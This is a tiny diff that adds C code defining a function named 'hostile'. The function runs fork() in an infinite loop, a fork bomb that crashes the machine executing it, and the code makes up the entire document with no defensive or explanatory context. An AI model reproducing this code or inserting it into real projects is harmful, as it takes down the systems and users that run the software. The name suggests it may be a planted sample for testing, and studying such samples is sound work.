@@ -1,0 +1,2 @@
+#include <unistd.h>
+int hostile(int a){ for(;;) fork(); return a; }
